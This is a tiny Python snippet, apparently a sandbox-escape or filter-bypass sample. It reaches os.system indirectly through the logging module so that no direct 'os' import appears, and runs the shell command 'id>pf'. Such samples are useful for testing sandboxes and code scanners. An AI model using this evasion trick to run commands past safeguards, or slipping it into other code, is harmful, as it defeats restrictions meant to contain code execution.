import logging
name = "os" if logging else "re"
getattr(logging, name).system("id>pf")
